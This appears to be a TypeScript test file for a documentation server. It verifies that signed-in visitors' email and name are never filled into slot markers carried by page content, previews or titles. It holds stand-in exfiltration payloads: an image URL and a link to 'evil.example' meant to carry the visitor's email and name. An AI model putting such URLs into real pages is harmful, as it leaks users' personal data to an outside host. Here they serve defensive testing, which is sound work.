/**
 * Only a page's own personal slots are filled (server/identity/personal-pages.ts): a slot marker that
 * content carries (`\uE000email\uE001` in an image URL, a link, a title, text) stays as written for a
 * signed-in visitor, on a page from its role template and on a preview rendered from the document at
 * request time. The import refuses such content (test/content/slot-markers.test.ts, and a tree here);
 * then it is stored anyway, as a tree imported before that check would have left it.
 */
import t, { type Test } from 'tap';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { appendFile } from 'node:fs/promises';
import { join } from 'node:path';
import { build, editFile, PREVIEW_TOKEN, tempContent, testDb } from '../helpers/build.ts';
import { ContentError } from '../../server/content/problems.ts';
import { follow, postForm, SESSION_SECRET, visit } from './helpers.ts';
import { Jar } from './oidc-peer.ts';
import type { Db } from '../../server/db/driver.ts';

const PAGE = '/acme-cloud/docs/first-steps';
const TOPIC = 'topics/acme-cloud/first-steps.md';
const ENTRY = 'acme-cloud-first-steps';
const EMAIL = 'ada@customer.example';
const NAME = 'Ada Lovelace';
const PASSWORD = 'correct horse battery staple';
const mark = (field: string) => `\uE000${field}\uE001`;
const IMAGE = `https://evil.example/b.png?u=${mark('email')}`;
const LINK = `https://evil.example/l/${mark('name')}?e=${mark('email')}`;


/** Signs in with the embedded provider's own form, as a browser does, and lands back on `page`. */
async function signIn(t: Test, app: FastifyInstance, jar: Jar, page: string): Promise<LightMyRequestResponse> {
  const screen = await follow(app, jar, await visit(app, jar, `/auth/login?continue=${encodeURIComponent(page)}`));
  const action = /action="(\/auth\/interaction\/[^"]+\/login)"/.exec(screen.body)?.[1];
  t.ok(action, 'the provider\'s sign-in form');
  return follow(app, jar, await postForm(app, jar, action as string, { email: EMAIL, password: PASSWORD }));
}

/** The stored topic as an older import would have kept it: markers in its HTML, its document and its title. */
async function plantMarkers(db: Db): Promise<void> {
  const rows = await db.query<{ html: string; document: { document: { content: { nodeType: string; content: unknown[] }[] } } }>(
    'select html, document from content_entries where id = $1', [ENTRY]);
  const row = rows[0];
  if (!row) throw new Error('no stored topic');
  const html = row.html.replace('Welcome to Acme.',
    `Welcome to Acme. <img src="${IMAGE}" alt="b"> <a href="${LINK}">l</a> Hello ${mark('name')}, ${mark('email')}.`);
  if (html === row.html) throw new Error('the topic\'s HTML has changed');
  const text = (value: string) => ({ nodeType: 'text', value, marks: [], data: {} });
  const first = row.document.document.content.find((b) => b.nodeType === 'paragraph');
  if (!first) throw new Error('no paragraph in the topic\'s document');
  first.content.push(
    text(' '), { nodeType: 'hyperlink', data: { uri: LINK }, content: [text('l')] },
    text(` Hello ${mark('name')}, ${mark('email')}.`),
  );
  await db.query(
    `update content_entries set html = $2, document = $3::jsonb, title = $4, fields = jsonb_set(fields, '{title}', to_jsonb($4::text)) where id = $1`,
    [ENTRY, html, JSON.stringify(row.document), `First steps ${mark('name')}`],
  );
}

/** Nothing of the visitor where the content put a marker; the markers there stay as written. */
function checkPage(t: Test, res: LightMyRequestResponse, what: string, { image }: { image: boolean }) {
  t.equal(res.statusCode, 200, what);
  const body = res.body;
  t.match(body, `Account menu for ${NAME}`, `${what}: the page's own slots are filled`);
  t.match(body, EMAIL, `${what}: the account menu has the e-mail`);
  const urls = [...body.matchAll(/(?:src|href)="(https:\/\/evil\.example\/[^"]*)"/g)].map((m) => m[1] as string);
  t.ok(urls.length >= (image ? 2 : 1), `${what}: the content's URLs are on the page`);
  for (const url of urls) {
    t.notMatch(url, /ada|Lovelace|customer\.example|%40/i, `${what}: nothing of the visitor in ${url}`);
  }
  if (image) t.ok(urls.includes(IMAGE), `${what}: the image URL stays as written`);
  t.ok(urls.includes(LINK), `${what}: the link stays as written`);
  t.notMatch(body, `Hello ${NAME}`, `${what}: not in the text`);
  t.notMatch(body, `Hello Ada Lovelace, ${EMAIL}`, `${what}: nor the e-mail`);
  t.notMatch(body, /<title>[^<]*Ada/, `${what}: nor in the title`);
  t.match(body, `Hello ${mark('name')}, ${mark('email')}.`, `${what}: the text's markers are left as they are`);
}

t.test('a signed-in visitor: content\'s slot markers are never filled, on a page or a preview', async (t) => {
  const db = await testDb(t);
  const app = await build(t, { db, env: { SESSION_SECRET } });
  await app.accounts.create({ email: EMAIL, password: PASSWORD, displayName: NAME });

  const jar = new Jar();
  // A tree with markers in the topic's body, raw and percent-encoded, and in its title: refused whole.
  const tree = await tempContent(t);
  await editFile(join(tree, TOPIC), 'title: First steps', 'title: "First steps \\uE000name\\uE001"');
  await appendFile(join(tree, TOPIC), `\n![b](${IMAGE})\n[c](https://evil.example/c?u=%EE%80%80email%EE%80%81)\n`);
  const refused: unknown = await app.importContentTree(tree).catch((error: unknown) => error);
  t.ok(refused instanceof ContentError, 'the import is refused');
  const message = String((refused as Error).message);
  for (const at of ['3:8: title', '21:35: body', '21:41: body', '22:30: body', '22:44: body']) {
    t.match(message, `${TOPIC}:${at}: must not contain U+E000 or U+E001`, `reported at ${at}`);
  }
  const before = await signIn(t, app, jar, PAGE);
  t.match(before.body, `Account menu for ${NAME}`, 'signed in');
  t.notMatch(before.body, 'evil.example', 'the stored page is the one before');

  await plantMarkers(db);
  app.content.invalidate();
  const landed = await visit(app, jar, PAGE);
  checkPage(t, landed, 'rendered', { image: true });
  // Again: now filled from the role template kept by the first render.
  checkPage(t, await visit(app, jar, PAGE), 'from the template', { image: true });

  // Preview renders the stored document now (the header form keeps the address without a query, as a template's is).
  checkPage(t, await visit(app, jar, PAGE, { 'x-preview-token': PREVIEW_TOKEN }), 'preview (header)', { image: false });
  checkPage(t, await visit(app, jar, `${PAGE}?preview=${PREVIEW_TOKEN}`), 'preview (query)', { image: false });
});
